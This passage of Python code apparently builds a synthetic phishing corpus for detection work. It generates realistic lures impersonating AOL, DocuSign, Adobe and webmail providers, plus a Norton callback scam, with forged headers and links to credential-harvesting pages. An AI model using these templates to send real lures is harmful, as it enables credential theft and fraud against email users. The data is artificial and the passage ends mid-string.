            f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: SJ0PR{rid(seed + 'mb', 2, DIGITS)}MB{rid(seed + 'mb2', 4, DIGITS)}")


def outlook_msgid(seed: str, region: str = "NAMPRD") -> str:
    prefixes = ["SJ0PR", "BY5PR", "CH3PR", "DM6PR", "PH0PR", "MN2PR"] if region.startswith("NAM") else \
        ["AM9PR", "DB9PR", "PAXPR", "AS8PR", "DU0PR", "GV1PR"]
    pre = prefixes[int(rid(seed + "om0", 2, DIGITS)) % len(prefixes)]
    num = rid(seed + "om2", 2, DIGITS)
    box = f"{pre}{num}MB{rid(seed + 'om3', 4, DIGITS)}"
    reg = "namprd" if region.startswith("NAM") else "eurprd"
    return f"<{box}{rid(seed + 'om4', 28, '0123456789ABCDEF')}@{box}.{reg}{num}.prod.outlook.com>"


def outlook_boundary(seed: str, kind: str = "000", region: str = "NAMPRD") -> str:
    local, dom = outlook_msgid(seed, region)[1:-1].split("@")
    return f"_{kind}_{local}{dom.split('.')[0]}{dom.split('.')[1]}prodoutlookcom_"


def list_unsub(url: str, mailto: str | None = None) -> str:
    mt = f"<mailto:{mailto}>, " if mailto else ""
    return f"List-Unsubscribe: {mt}<{url}>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click"


def b64email(address: str) -> str:
    return base64.b64encode(address.encode()).decode()


def btn(url: str, label: str, colour: str = "#0067b8") -> str:
    return (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0"><tr><td bgcolor="{colour}" '
            f'style="border-radius:3px;padding:11px 26px;"><a href="{url}" style="color:#ffffff;font-family:Segoe UI,'
            f'Arial,sans-serif;font-size:15px;font-weight:600;text-decoration:none;display:inline-block;">{label}</a>'
            f'</td></tr></table>')


def page(inner: str, title: str = "", width: int = 600, bg: str = "#f3f3f3") -> str:
    return (f'<!DOCTYPE html>\n<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            f'<meta name="viewport" content="width=device-width, initial-scale=1.0">\n<title>{title}</title></head>\n'
            f'<body style="margin:0;padding:0;background:{bg};">\n<center>\n<table role="presentation" width="{width}" '
            f'cellpadding="0" cellspacing="0" border="0" style="max-width:{width}px;background:#ffffff;'
            f'font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#333333;">\n{inner}\n</table>\n</center>\n'
            f'</body></html>\n')


# ---------------------------------------------------------------------------------------------------------------
# Attacks, part 1: mailbox, webmail and document-share lures
# ---------------------------------------------------------------------------------------------------------------

def a_quota_selfdomain():
    stem = f"b{N}-phish-quota-selfdomain"
    at = "2025-02-11 06:41:17"
    d = when(at) - timedelta(seconds=5)
    url = f"https://pub-{rid(stem + 'r2', 32)}.r2.dev/mailbox-storage.html#{b64email(P)}"
    html = page(f"""<tr><td style="padding:22px 30px 6px 30px;font-size:20px;color:#1a1a1a;">whitlock.me.uk</td></tr>
<tr><td style="padding:4px 30px;font-size:16px;color:#c50f1f;font-weight:bold;">Mailbox storage almost full</td></tr>
<tr><td style="padding:14px 30px;line-height:21px;">Dear gordon,<br><br>Your mailbox <b>{P}</b> has used <b>1.96 GB</b> of its
<b>2 GB</b> storage quota (98%). When the quota is reached you will no longer be able to send or receive messages and
<b>11 incoming messages</b> are currently held on the server.</td></tr>
<tr><td style="padding:6px 30px;"><table width="100%" cellpadding="0" cellspacing="0"><tr><td width="98%" bgcolor="#c50f1f" height="12"></td>
<td width="2%" bgcolor="#e1e1e1" height="12"></td></tr></table><div style="font-size:12px;color:#666;padding-top:4px;">1.96 GB / 2 GB</div></td></tr>
<tr><td style="padding:18px 30px;">{btn(url, "Increase Storage Free")}</td></tr>
<tr><td style="padding:6px 30px 24px 30px;font-size:12px;color:#777;line-height:18px;">To avoid service interruption please
complete this within 24 hours. Upgrade is free of charge for existing whitlock.me.uk accounts.<br><br>
&copy; 2025 whitlock.me.uk Mail Server. This message was sent automatically to {P}.</td></tr>""", "Mailbox storage")
    head = f"""From: {addr("whitlock.me.uk Mail Admin", "info@coastalkitchenfitters.co.uk")}
To: {P}
Subject: {b_subject("⚠ Mailbox Storage 98% Full – gordon@whitlock.me.uk")}
Date: {rfc(d, LONDON)}
Message-ID: <{rid(stem + 'mid', 32, ALNUM)}@coastalkitchenfitters.co.uk>
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", '; charset=UTF-8')
    mail(stem, "phishing", "Mailbox-quota lure naming the recipient's own domain, sent with PHPMailer from a compromised "
         "UK kitchen-fitter's hosting account, linking to a Cloudflare R2 bucket page with the address in the fragment.",
         to=P, at=at, ip="198.54.115.87", rdns="server187-2.web-hosting.com", helo="server187-2.web-hosting.com",
         mailfrom="info@coastalkitchenfitters.co.uk", spf="pass", from_dom="coastalkitchenfitters.co.uk",
         dkims=[("coastalkitchenfitters.co.uk", "default", "pass")], head=head, body=body,
         sign=[("coastalkitchenfitters.co.uk", "default", {"headers": "Content-Transfer-Encoding:Content-Type:MIME-Version:Message-ID:Date:Subject:To:From",
                                                           "canon": "relaxed/relaxed"})],
         hops=[f"Received: from [102.89.47.133] (port=52114 helo=coastalkitchenfitters.co.uk)\n\tby server187-2.web-hosting.com with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n"
               f"\t(Exim 4.98)\n\t(envelope-from <info@coastalkitchenfitters.co.uk>)\n\tid 1ti{rid(stem + 'ex', 3, ALNUM)}-0000000{rid(stem + 'ex2', 3, ALNUM)}-"
               f"{rid(stem + 'ex3', 4, ALNUM)}\n\tfor {P};\n\t{rfc(d, EASTERN)}"])


def a_pending_messages():
    stem = f"b{N}-phish-pending-messages"
    at = "2025-06-03 13:27:52"
    d = when(at) - timedelta(seconds=6)
    tenant = "stmarksfoodpantry.org"
    ip, host, hops = m365_out(stem, tenant, d)
    ipfs = f"https://bafybei{rid(stem + 'cid', 52, 'abcdefghijklmnopqrstuvwxyz234567')}.ipfs.dweb.link/?e={P}"
    from urllib.parse import quote
    url = (f"https://www.google.com/url?q={quote(ipfs, safe='')}&amp;sa=D&amp;sntz=1&amp;usg=AOvVaw"
           f"{rid(stem + 'usg', 22, ALNUM)}")
    rows = [("billing@whitlock.me.uk", "RE: Final invoice - payment scheduled", "Jun 2, 2025"),
            ("Royal Mail", "Parcel collection reminder", "Jun 2, 2025"),
            ("J. Whitlock", "Fwd: Photos from the weekend", "Jun 1, 2025"),
            ("HMRC Online", "Your tax code notice", "Jun 1, 2025"),
            ("Nationwide", "Important changes to your account", "May 31, 2025"),
            ("S. Pearce", "Re: Lunch Thursday?", "May 31, 2025"),
            ("DocuSign", "Completed: Tenancy agreement", "May 30, 2025")]
    trs = "\n".join(f'<tr><td style="padding:6px 8px;border-bottom:1px solid #eee;">{a}</td><td style="padding:6px 8px;'
                    f'border-bottom:1px solid #eee;">{b}</td><td style="padding:6px 8px;border-bottom:1px solid #eee;'
                    f'color:#888;">{c}</td></tr>' for a, b, c in rows)
    html = f"""<html><head>
<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">
<style type="text/css" style="display:none;"> P {{margin-top:0;margin-bottom:0;}} </style>
</head>
<body dir="ltr">
<div style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
<p><b>whitlock.me.uk</b> Mail Delivery System</p>
<p>&nbsp;</p>
<p>Hello gordon,</p>
<p>You have <b>7 pending incoming messages</b> that could not be delivered to your inbox because of a server
synchronisation error on {d.astimezone(LONDON).strftime('%d/%m/%Y')}. These messages will be deleted from the queue after 48 hours.</p>
<p>&nbsp;</p>
<table style="border-collapse:collapse;font-size:10pt;" width="560">
<tr style="background:#f2f2f2;"><th align="left" style="padding:6px 8px;">From</th><th align="left" style="padding:6px 8px;">Subject</th><th align="left" style="padding:6px 8px;">Date</th></tr>
{trs}
</table>
<p>&nbsp;</p>
<p><a href="{url}" style="background:#2b579a;color:#fff;padding:9px 18px;text-decoration:none;">Release pending messages to inbox</a></p>
<p>&nbsp;</p>
<p style="font-size:9pt;color:#777;">Mail server administrator for {P}<br>This is an automated notification, please do not reply.</p>
</div>
</body>
</html>
"""
    plain = (f"whitlock.me.uk Mail Delivery System\n\nHello gordon,\n\nYou have 7 pending incoming messages that could not be "
             f"delivered to your inbox because of a server synchronisation error. These messages will be deleted from the queue "
             f"after 48 hours.\n\nRelease pending messages to inbox<{url.replace('&amp;', '&')}>\n\nMail server administrator for {P}\n")
    body = Multi("alternative", outlook_boundary(stem), [
        Leaf("text/plain", plain.encode("latin-1"), "quoted-printable", '; charset="iso-8859-1"'),
        Leaf("text/html", html.encode("latin-1"), "quoted-printable", '; charset="iso-8859-1"')])
    head = f"""From: {addr("Mail Delivery System", "food.pantry@" + tenant)}
To: {addr("gordon", P)}
Subject: [whitlock.me.uk] Delivery Status: 7 incoming messages pending
Thread-Topic: [whitlock.me.uk] Delivery Status: 7 incoming messages pending
Thread-Index: A{rid(stem + 'ti', 29, ALNUM)}==
Date: {format_datetime(d).replace('-0000', '+0000')}
Message-ID: {outlook_msgid(stem)}
Accept-Language: en-US
Content-Language: en-US
X-MS-Exchange-Organization-AuthAs: Internal
{m365_tail(stem, tenant, d)}
MIME-Version: 1.0
"""
    mail(stem, "phishing", "Pending-messages lure listing fake held mail for the recipient's own domain, sent from a "
         "compromised Microsoft 365 mailbox of a small charity, with the button going through a google.com/url redirect "
         "to an IPFS gateway page.",
         to=P, at=at, ip=ip, rdns=host, helo=host, mailfrom="food.pantry@" + tenant, spf="pass", from_dom=tenant,
         dkims=[(tenant, "selector1", "pass")], dmarc=("pass", "none"), head=head, body=body, hops=hops,
         sign=[(tenant, "selector1", {"headers": "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"})])


def a_aol_password_expiry():
    stem = f"b{N}-phish-aol-password-expiry"
    at = "2024-10-22 02:14:09"
    d = when(at) - timedelta(seconds=3)
    url = "https://aol-mail-account-update.weebly.com/"
    html = page(f"""<tr><td style="padding:20px 28px 0 28px;"><span style="font-size:28px;font-weight:bold;color:#39f;font-family:Arial;">Aol.</span></td></tr>
<tr><td style="padding:18px 28px 0 28px;font-size:17px;font-weight:bold;">Your password expires today</td></tr>
<tr><td style="padding:12px 28px;line-height:22px;">Hi {A},<br><br>The password for your AOL Mail account is due to expire
on <b>{d.strftime('%m/%d/%Y')}</b>. To keep using your current password and avoid losing access to your emails, contacts
and calendar, please confirm it below.</td></tr>
<tr><td style="padding:10px 28px 20px 28px;">{btn(url, "Keep Same Password", "#0f69ff")}</td></tr>
<tr><td style="padding:0 28px 22px 28px;font-size:12px;color:#888;">If you ignore this message your account will be
signed out of all devices.<br><br>AOL Mail Team &middot; 770 Broadway, New York, NY 10003</td></tr>""", "AOL Mail")
    head = f"""From: {addr("AOL Mail", "no-reply@aolverify-mail.com")}
To: {A}
Subject: Password Expiration Notice for {A}
Date: {rfc(d)}
Message-ID: <{rid(stem + 'm', 20, DIGITS)}.{rid(stem + 'm2', 10, ALNUM)}@aolverify-mail.com>
MIME-Version: 1.0
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", '; charset="UTF-8"')
    mail(stem, "phishing", "AOL password-expiry lure from a freshly registered look-alike domain on a rented VPS (SPF only, "
         "no DKIM), linking to a Weebly-hosted credential page.",
         to=A, at=at, ip="45.88.91.203", rdns="vps-45-88-91-203.hosted-by-itldc.com", helo="mail.aolverify-mail.com",
         mailfrom="no-reply@aolverify-mail.com", spf="pass", from_dom="aolverify-mail.com", head=head, body=body,
         hops=[f"Received: by mail.aolverify-mail.com (Postfix, from userid 0)\n\tid 4XY{rid(stem + 'q', 8, UPNUM)}; {rfc(d)}"])


def a_cantab_revalidate():
    stem = f"b{N}-phish-cantab-revalidate"
    at = "2025-03-18 09:02:33"
    d = when(at) - timedelta(seconds=2)
    sender = "m.patil@sitpune-college.edu.in"
    ip, rdns, hops = gmail_out(stem, d)
    form = f"https://docs.google.com/forms/d/e/1FAIpQLS{rid(stem + 'f', 50, ALNUM + '-_')}/viewform?usp=sf_link"
    plain = ("Dear Account User,\n\nYour webmail account is due for annual re-validation. All cantab.net / Cambridge alumni "
             "mailboxes that are not re-validated by 21st March 2025 will be disabled and queued for deletion under the new "
             "mailbox retention policy.\n\nTo keep your account active, complete the re-validation form below:\n\n"
             f"{form}\n\nThank you for your co-operation.\n\nIT Service Desk\nWebmail Administration Team\n")
    html = ('<div dir="ltr">Dear Account User,<div><br></div><div>Your webmail account is due for annual re-validation. All '
            'cantab.net / Cambridge alumni mailboxes that are not re-validated by <b>21st March 2025</b> will be disabled and '
            'queued for deletion under the new mailbox retention policy.</div><div><br></div><div>To keep your account active, '
            f'complete the re-validation form below:</div><div><br></div><div><a href="{form}">RE-VALIDATE MY ACCOUNT</a></div>'
            '<div><br></div><div>Thank you for your co-operation.</div><div><br></div><div>IT Service Desk<br>Webmail '
            'Administration Team</div></div>\n')
    head = f"""MIME-Version: 1.0
From: {addr("Webmail Administration", sender)}
Date: {rfc(d, ZoneInfo("Asia/Kolkata"))}
Message-ID: {gmail_msgid(stem)}
Subject: Account Re-validation Required
To: undisclosed-recipients:;
Bcc: {C}
"""
    body = Multi("alternative", f"000000000000{rid(stem + 'bd', 16)}", [
        Leaf("text/plain", plain.encode(), "7bit", '; charset="UTF-8"'),
        Leaf("text/html", html.encode(), "quoted-printable", '; charset="UTF-8"')])
    mail(stem, "phishing", "Webmail re-validation lure to the alumni forwarding alias, sent Bcc from a compromised Indian "
         "college Google Workspace mailbox, linking to a Google Forms page collecting the password.",
         to=C, at=at, ip=ip, rdns=rdns, helo=rdns, mailfrom=sender, spf="pass", from_dom="sitpune-college.edu.in",
         dkims=[("sitpune-college.edu.in", "google", "pass")], head=head, body=body, hops=fix_to(hops, C),
         sign=[("sitpune-college.edu.in", "google", {"headers": "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to"})])


def a_docusign_realtor():
    stem = f"b{N}-phish-docusign-realtor"
    at = "2024-09-05 17:48:21"
    d = when(at) - timedelta(seconds=4)
    tenant = "sunbeltrealtygroup.com"
    ip, host, hops = m365_out(stem, tenant, d)
    url = f"https://docusign-envelope-{rid(stem + 'g', 6, 'abcdefghijklmnopqrstuvwxyz')}.glitch.me/?env={rid(stem + 'e', 8)}-{rid(stem + 'e2', 4)}#{b64email(G)}"
    html = f"""<html><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body>
<table width="100%" cellpadding="0" cellspacing="0" style="background:#eaeaea;font-family:Helvetica,Arial,sans-serif;">
<tr><td align="center" style="padding:20px 0;">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;">
<tr><td style="padding:20px 24px;"><span style="font-size:22px;font-weight:bold;color:#1e1e1e;">Docu</span><span style="font-size:22px;font-weight:bold;color:#ffcc22;">Sign</span></td></tr>
<tr><td align="center" style="background:#1e4ca1;padding:28px 24px;color:#ffffff;font-size:16px;">
Jenna Morales sent you a document to review and sign.<br><br>
<a href="{url}" style="background:#ffc423;color:#333;font-size:14px;font-weight:bold;padding:10px 22px;text-decoration:none;border-radius:2px;">REVIEW DOCUMENT</a>
</td></tr>
<tr><td style="padding:22px 24px;font-size:14px;color:#333;line-height:20px;"><b>Jenna Morales</b><br>
<a href="mailto:jmorales@{tenant}" style="color:#1e4ca1;">jmorales@{tenant}</a><br><br>
Please review and sign the attached Closing Disclosure and Wire Instructions.<br>Thank you,<br>Jenna</td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#666;background:#f4f4f4;"><b>Do Not Share This Email</b><br>
This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.<br><br>
<b>About DocuSign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.</td></tr>
</table></td></tr></table>
<div>&nbsp;</div>
<div style="font-family:Calibri,sans-serif;font-size:11pt;">Jenna Morales | Realtor&reg;<br>Sunbelt Realty Group<br>
(602) 555-0148<br>4800 N Scottsdale Rd, Scottsdale, AZ 85251</div>
</body></html>
"""
    plain = (f"Jenna Morales sent you a document to review and sign.\n\nREVIEW DOCUMENT <{url}>\n\nJenna Morales\n"
             f"jmorales@{tenant}\n\nPlease review and sign the attached Closing Disclosure and Wire Instructions.\nThank you,\n"
             "Jenna\n\nJenna Morales | Realtor(R)\nSunbelt Realty Group\n(602) 555-0148\n")
    body = Multi("alternative", outlook_boundary(stem),
                 [text(plain), text(html, "html")])
    head = f"""From: {addr("Jenna Morales", "jmorales@" + tenant)}
To: {addr("Gordon Whitlock", G)}
Subject: Jenna Morales sent you Closing Disclosure & Wire Instructions.pdf via DocuSign
Thread-Topic: Jenna Morales sent you Closing Disclosure & Wire Instructions.pdf via DocuSign
Thread-Index: A{rid(stem + 'ti', 29, ALNUM)}==
Date: {format_datetime(d).replace('-0000', '+0000')}
Message-ID: {outlook_msgid(stem)}
Accept-Language: en-US
Content-Language: en-US
{m365_tail(stem, tenant, d)}
MIME-Version: 1.0
"""
    mail(stem, "phishing", "DocuSign-styled 'review and sign' lure sent from a compromised estate agent's Microsoft 365 "
         "mailbox to her contact list, the button leading to a Glitch-hosted credential page.",
         to=G, at=at, ip=ip, rdns=host, helo=host, mailfrom="jmorales@" + tenant, spf="pass", from_dom=tenant,
         dkims=[(tenant, "selector1", "pass")], dmarc=("pass", "QUARANTINE"), head=head, body=body, hops=hops,
         sign=[(tenant, "selector1", {"headers": "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"})])


def docusign_html(sender_name: str, subject: str, message_text: str, url: str, envelope: str) -> str:
    return f"""<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="initial-scale=1.0"></head>
<body style="padding:0;margin:0;background-color:#EAEAEA;">
<table border="0" cellspacing="0" cellpadding="0" width="100%" style="background-color:#EAEAEA;">
<tr><td style="padding:24px 0;" align="center">
<table border="0" cellspacing="0" cellpadding="0" width="640" style="background-color:#ffffff;font-family:Helvetica,Arial,Sans Serif;">
<tr><td style="padding:24px 24px 0 24px;"><img src="https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/email-templates/email-logo.png" alt="DocuSign" width="116" height="34" style="border:none;"></td></tr>
<tr><td style="padding:0 24px 30px 24px;"><table border="0" cellspacing="0" cellpadding="0" width="100%" style="background-color:#1E4CA1;color:#ffffff;" align="center">
<tr><td align="center" style="padding:28px 36px 36px 36px;border-radius:2px;background-color:#1E4CA1;color:#ffffff;font-size:16px;font-family:Helvetica,Arial,Sans Serif;">
<img src="https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/email-templates/icon-documents-white.png" width="75" height="75" alt="" style="width:75px;height:75px;">
<table border="0" cellspacing="0" cellpadding="0" width="100%"><tr><td align="center" style="border:none;padding-top:24px;font-size:16px;line-height:24px;color:#ffffff;">{sender_name} sent you a document to review and sign.</td></tr></table>
<table border="0" cellspacing="0" cellpadding="0" width="100%"><tr><td align="center" style="padding-top:30px;"><div><table cellspacing="0" cellpadding="0"><tr><td align="center" height="44" style="font-size:15px;color:#333333;background-color:#FFC423;font-family:Helvetica,Arial,Sans Serif;font-weight:bold;text-align:center;text-decoration:none;border-radius:2px;display:block;">
<a href="{url}" style="font-size:15px;color:#333333;background-color:#FFC423;font-family:Helvetica,Arial,Sans Serif;font-weight:bold;text-align:center;text-decoration:none;border-radius:2px;display:inline-block;"><span style="padding:0px 24px;line-height:44px;">REVIEW DOCUMENT</span></a></td></tr></table></div></td></tr></table>
</td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 24px;color:#000000;font-size:16px;font-family:Helvetica,Arial,Sans Serif;background-color:white;">
<table border="0" cellspacing="0" cellpadding="0"><tr><td style="padding-bottom:20px;"><div style="font-family:Helvetica,Arial,Sans Serif;font-weight:bold;line-height:18px;font-size:15px;color:#333333;">{sender_name}</div>
<div style="font-family:Helvetica,Arial,Sans Serif;line-height:18px;font-size:15px;color:#666666;">{subject}</div></td></tr></table>
<p style="font-size:15px;color:#333333;font-family:Helvetica,Arial,Sans Serif;line-height:20px;">{message_text}</p></td></tr>
<tr><td style="padding:0px 24px 12px 24px;background-color:#ffffff;font-family:Helvetica,Arial,Sans Serif;font-size:11px;color:#666666;"></td></tr>
<tr><td style="padding:30px 24px 45px 24px;background-color:#EAEAEA;">
<p style="margin-bottom:1em;font-family:Helvetica,Arial,Sans Serif;font-size:13px;color:#666666;line-height:18px;"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br></p>
<p style="margin-bottom:1em;font-family:Helvetica,Arial,Sans Serif;font-size:13px;color:#666666;line-height:18px;"><b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code:<br>{envelope}</p>
<p style="margin-bottom:1em;font-family:Helvetica,Arial,Sans Serif;font-size:13px;color:#666666;line-height:18px;"><b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding. Whether you're in an office, at home, on-the-go -- or even across the globe -- Docusign provides a professional trusted solution for Digital Transaction Management&trade;.</p>
<p style="margin-bottom:1em;font-family:Helvetica,Arial,Sans Serif;font-size:13px;color:#666666;line-height:18px;"><b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.<br><br><b>Stop receiving this email</b><br><a href="https://protect.docusign.net/report-abuse?e=AUtomjpF{envelope[:20]}&amp;lang=en" style="color:#2463D1;">Report this email</a> or read more about <a href="https://support.docusign.com/s/articles/How-do-I-manage-my-email-notifications" style="color:#2463D1;">Declining to sign</a> and <a href="https://support.docusign.com/s/articles/How-do-I-manage-my-email-notifications" style="color:#2463D1;">Managing notifications</a>.<br><br>If you have trouble signing, visit "<a href="https://support.docusign.com/s/articles/How-do-I-sign-a-DocuSign-document-Basic-Signing" style="color:#2463D1;">How to Sign a Document</a>" on our <a href="https://support.docusign.com/" style="color:#2463D1;">Docusign Support Center</a>, or browse our <a href="https://community.docusign.com/" style="color:#2463D1;">Docusign Community</a> for more information.<br></p>
<p style="font-family:Helvetica,Arial,Sans Serif;font-size:13px;color:#666666;line-height:18px;"><a href="https://www.docusign.com/features-and-benefits/mobile" style="color:#2463D1;">Download the Docusign App</a><br><br>This message was sent to you by {sender_name} who is using the Docusign Electronic Signature Service. If you would rather not receive email from this sender you may contact the sender with your request.</p>
</td></tr></table></td></tr></table></body></html>
"""


def docusign_mail(stem, folder, desc, *, to, at, sender_name, reply_to, subject, message_text, doc, acct):
    d = when(at) - timedelta(seconds=3)
    envelope = rid(stem + "env", 32, "0123456789ABCDEF")
    url = (f"https://na4.docusign.net/Signing/EmailStart.aspx?a={rid(stem + 'a', 8)}-{rid(stem + 'a2', 4)}-{rid(stem + 'a3', 4)}-"
           f"{rid(stem + 'a4', 4)}-{rid(stem + 'a5', 12)}&amp;etti=24&amp;acct={acct}&amp;er={rid(stem + 'er', 8)}-"
           f"{rid(stem + 'er2', 4)}-{rid(stem + 'er3', 4)}-{rid(stem + 'er4', 4)}-{rid(stem + 'er5', 12)}")
    html = docusign_html(sender_name, subject, message_text, url, envelope)
    plain = (f"{sender_name} sent you a document to review and sign.\r\n\r\nREVIEW DOCUMENT: {url.replace('&amp;', '&')}\r\n\r\n"
             f"{sender_name}\r\n{subject}\r\n\r\n{message_text}\r\n\r\nDo Not Share This Email\r\nThis email contains a secure "
             "link to Docusign. Please do not share this email, link, or access code with others.\r\n")
    ip = f"64.207.219.{int(rid(stem + 'dip', 2, DIGITS)) % 60 + 70}"
    rdns = f"mail{ip.split('.')[-1]}.docusign.net"
    head = f"""Reply-To: {addr(sender_name, reply_to)}
From: {addr(sender_name + " via Docusign", "dse_NA4@docusign.net")}
To: {addr("Gordon Whitlock", to)}
Message-ID: <{rid(stem + 'dm', 32)}@docusign.net>
Date: {rfc(d, PACIFIC)}
Subject: Complete with Docusign: {doc}
MIME-Version: 1.0
X-Api-Host: docusign.net
X-Website-Host: docusign.net
"""
    body = Multi("alternative", f"----=_NextPart_{rid(stem + 'np', 3, DIGITS)}_{rid(stem + 'np2', 4, DIGITS)}_"
                 f"{rid(stem + 'np3', 8, UPNUM)}.{rid(stem + 'np4', 8, UPNUM)}",
                 [Leaf("text/plain", plain.encode(), "quoted-printable", '; charset="utf-8"'),
                  Leaf("text/html", html.encode(), "quoted-printable", '; charset="utf-8"')])
    mail(stem, folder, desc, to=to, at=at, ip=ip, rdns=rdns, helo=rdns, mailfrom="dse_NA4@docusign.net", spf="pass",
         from_dom="docusign.net", dkims=[("docusign.net", "mail1", "pass")], dmarc=("pass", "REJECT"), head=head, body=body,
         hops=[f"Received: from docusign.net (10.112.3.{int(rid(stem + 'dx', 2, DIGITS))}) by {rdns} id {rid(stem + 'dq', 12, UPNUM)} "
               f"for <{to}>; {rfc(d + timedelta(seconds=1))}"])


def a_docusign_platform_callback():
    stem = f"b{N}-phish-docusign-callback"
    msg = ("Dear Customer, your Norton 360 Total Protection (5 devices, 2 years) has been renewed and USD 449.99 will be "
           "charged to the payment method on file within 24 hours. Invoice No. INV-88213. If you did not authorise this "
           "renewal or wish to cancel and receive a refund, call our Billing Desk on +1 (888) 913-4427 before the payment "
           "is processed. Please do not reply to this email.")
    docusign_mail(stem, "phishing", "Callback scam delivered through a genuine DocuSign envelope (attacker's DocuSign account, "
                  "authentic DKIM) whose message text announces a USD 449.99 Norton renewal and gives a phone number to cancel.",
                  to=H, at="2025-04-09 15:33:40", sender_name="Norton Billing Department",
                  reply_to="norton.billingdesk.inv@gmail.com", subject="Norton 360 - Renewal Invoice INV-88213",
                  message_text=msg, doc="Norton_Renewal_Invoice_INV-88213.pdf",
                  acct=f"{rid(stem + 'ac', 8)}-{rid(stem + 'ac2', 4)}-{rid(stem + 'ac3', 4)}-{rid(stem + 'ac4', 4)}-{rid(stem + 'ac5', 12)}")


def a_adobe_firebase():
    stem = f"b{N}-phish-adobe-firebase"
    at = "2024-12-03 10:19:44"
    d = when(at) - timedelta(seconds=5)
    url = (f"https://firebasestorage.googleapis.com/v0/b/shared-docs-{rid(stem + 'fb', 5)}.appspot.com/o/acrobat%2Findex.html"
           f"?alt=media&amp;token={rid(stem + 't1', 8)}-{rid(stem + 't2', 4)}-{rid(stem + 't3', 4)}-{rid(stem + 't4', 4)}-{rid(stem + 't5', 12)}"
           f"#{Y}")
    html = page(f"""<tr><td style="padding:22px 30px;border-bottom:1px solid #e5e5e5;"><span style="color:#fa0f00;font-size:20px;font-weight:bold;">&#9650; Adobe</span> <span style="font-size:16px;color:#2c2c2c;">Acrobat</span></td></tr>
<tr><td style="padding:26px 30px 8px 30px;font-size:18px;color:#2c2c2c;">Accounts Payable has shared a document with you</td></tr>
<tr><td style="padding:8px 30px;line-height:21px;color:#4b4b4b;">Hello,<br>Please find the remittance advice for the payment
released to your account today. The document has been shared securely via Adobe Document Cloud.</td></tr>
<tr><td style="padding:16px 30px;"><table cellpadding="0" cellspacing="0" style="border:1px solid #e1e1e1;width:100%;"><tr>
<td style="padding:14px;width:44px;"><div style="width:34px;height:42px;background:#fa0f00;color:#fff;font-size:11px;text-align:center;line-height:42px;">PDF</div></td>
<td style="padding:14px;font-size:14px;color:#2c2c2c;"><b>Payment_Remittance_Advice_0412.pdf</b><br><span style="color:#6e6e6e;font-size:12px;">218 KB &middot; Shared {d.strftime('%b %d, %Y')}</span></td></tr></table></td></tr>
<tr><td style="padding:10px 30px 26px 30px;">{btn(url, "Open", "#1473e6")}</td></tr>
<tr><td style="padding:18px 30px;background:#fafafa;font-size:11px;color:#8e8e8e;line-height:16px;">Adobe Inc. 345 Park Avenue, San Jose, CA 95110-2704<br>
You received this email because a document was shared with {Y}.</td></tr>""", "Adobe Acrobat", bg="#fafafa")
    head = f"""Date: {rfc(d)}
To: {Y}
From: {addr("Adobe Acrobat", "wordpress@pulsedigitalmarketing.net")}
Subject: Accounts Payable shared "Payment_Remittance_Advice_0412.pdf" with you
Message-ID: <{rid(stem + 'mid', 43, ALNUM)}@pulsedigitalmarketing.net>
X-Mailer: WPMailSMTP/Mailer/mail 4.1.1
MIME-Version: 1.0
"""
    body = Leaf("text/html", html.replace("&amp;token", "&token").replace("&token", "&amp;token").encode(), "quoted-printable",
                "; charset=UTF-8")
    mail(stem, "phishing", "Adobe Acrobat 'document shared with you' lure sent through the mail function of a compromised "
         "WordPress marketing site, linking to an HTML credential page stored in a Firebase Storage bucket.",
         to=Y, at=at, ip="162.241.60.114", rdns="box5321.bluehost.com", helo="box5321.bluehost.com",
         mailfrom="pulsedig@box5321.bluehost.com", spf="pass", from_dom="pulsedigitalmarketing.net", head=head, body=body,
         dkims=[("pulsedigitalmarketing.net", "default", "pass")],
         hops=[f"Received: from pulsedig by box5321.bluehost.com with local (Exim 4.96.2)\n\t(envelope-from <pulsedig@box5321.bluehost.com>)\n"
               f"\tid 1tIP{rid(stem + 'ex', 2, ALNUM)}-00{rid(stem + 'ex2', 5, ALNUM)}-{rid(stem + 'ex3', 2, ALNUM)}\n\tfor {Y};\n\t{rfc(d, ZoneInfo('America/Denver'))}"])


def a_voicemail_html():
    stem = f"b{N}-phish-voicemail-html"
    at = "2025-01-28 08:05:12"
    d = when(at) - timedelta(seconds=4)
    post = "https://greenvalleyorchards.com.au/wp-content/plugins/wp-file-mngr/lib/next.php"
    att = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Sign in to your account</title>
<style>body{{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2}}.box{{width:380px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}}
